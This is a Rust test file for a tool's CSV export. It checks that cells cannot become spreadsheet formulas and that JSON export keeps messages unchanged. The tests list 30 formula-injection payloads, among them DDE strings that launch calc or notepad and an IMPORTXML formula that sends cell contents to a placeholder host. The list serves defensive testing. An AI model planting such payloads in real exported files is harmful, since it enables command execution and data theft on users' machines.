//! CSV as a spreadsheet reads it: no cell is a formula, and nothing else is changed.

use super::{export, files, index_of};
use callscope::export::{COLUMNS, Chosen, Source, column};
use std::fs;

/// What people have tried, and what a careless check lets through.
const PAYLOADS: [&str; 30] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x\",\"y\")",
    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1;=2",
    "\",=1+1,\"",
    "\t=1",
    "\tplain",
    "\r=1",
    "\n=1",
    "\nplain",
    " =1",
    "   +1+1",
    "\u{a0}=1+1",
    "\u{3000}@x",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}x",
    "first\n=1+1",
    "first\r\n@x",
    "first\r +x",
    "--1",
    "-5e3x",
];

/// The cells of CSV, read by the rules of RFC 4180.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut lines, mut line, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut rest = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = rest.next() {
        match (quoted, c) {
            (true, '"') if rest.next_if_eq(&'"').is_some() => cell.push('"'),
            (_, '"') => quoted = !quoted,
            (false, ',') => line.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                line.push(std::mem::take(&mut cell));
                lines.push(std::mem::take(&mut line));
            }
            _ => cell.push(c),
        }
    }
    assert!(!quoted && line.is_empty() && cell.is_empty(), "it ends with a line");
    lines
}

#[test]
fn no_payload_becomes_a_formula_and_json_keeps_it() {
    let folder = tempfile::tempdir().unwrap();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let body = serde_json::json!({"EventName": "TaskFinish",
            "JobsDetail": [{"JobId": format!("j{number:02}"), "State": "Success", "Message": payload}]});
        fs::write(folder.path().join(format!("{number:02}.json")), body.to_string()).unwrap();
    }
    let index = index_of(folder.path(), &files(folder.path()));
    let text = export(folder.path(), &index, index.order(), "csv");
    let lines = cells(text.strip_prefix('\u{feff}').unwrap());
    assert_eq!(lines.len(), PAYLOADS.len() + 1);
    assert!(
        lines[0][COLUMNS.len()].starts_with("An apostrophe in front"),
        "what was done is told: {:?}",
        lines[0]
    );
    let at = |name: &str| lines[0].iter().position(|head| head == name).unwrap();
    let (id, message) = (at("id"), at("message"));
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let line = lines.iter().find(|line| line[id] == format!("j{number:02}")).unwrap();
        assert_eq!(line.len(), COLUMNS.len() + 1);
        assert_eq!(line[COLUMNS.len()], "");
        for cell in line {
            let begins =
                |line: &str| line.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
            let is_formula = cell.starts_with(['\t', '\r', '\n']) || cell.split(['\r', '\n']).any(begins);
            assert!(!is_formula || cell.starts_with('\''), "{payload:?} became {cell:?}");
        }
        let told = line[message].strip_prefix('\'').unwrap_or(&line[message]);
        assert_eq!(told, *payload, "nothing else is changed");
    }
    let json: serde_json::Value =
        serde_json::from_str(&export(folder.path(), &index, index.order(), "json")).unwrap();
    for callback in json.as_array().unwrap() {
        let job = &callback["JobsDetail"][0];
        let number: usize = job["JobId"].as_str().unwrap()[1..].parse().unwrap();
        assert_eq!(job["Message"], PAYLOADS[number]);
    }
}

#[test]
fn it_has_the_columns_that_are_asked_for_in_their_order() {
    let folder = tempfile::tempdir().unwrap();
    let body = r#"{"EventName":"TaskFinish","JobsDetail":[{"JobId":"j1","State":"Success","Tag":"Transcode",
        "Operation":{"TemplateId":"t1","TemplateName":"MP4"}}]}"#;
    fs::write(folder.path().join("a.json"), body).unwrap();
    let index = index_of(folder.path(), &files(folder.path()));
    let columns = ["template", "state", "id"].map(|name| *column(name).unwrap()).to_vec();
    let chosen = Chosen { columns, ..Chosen::new(&index, index.order()) };
    let read = |_: &std::path::Path| unreachable!("rows need no capture");
    let source = Source { root: folder.path(), only: None, read: &read };
    let text = export::format("csv").unwrap().plan(chosen).to_text(&source).unwrap().unwrap();
    assert_eq!(text, "\u{feff}\"template\",\"state\",\"id\"\r\n\"MP4\",\"Success\",\"j1\"\r\n");
}
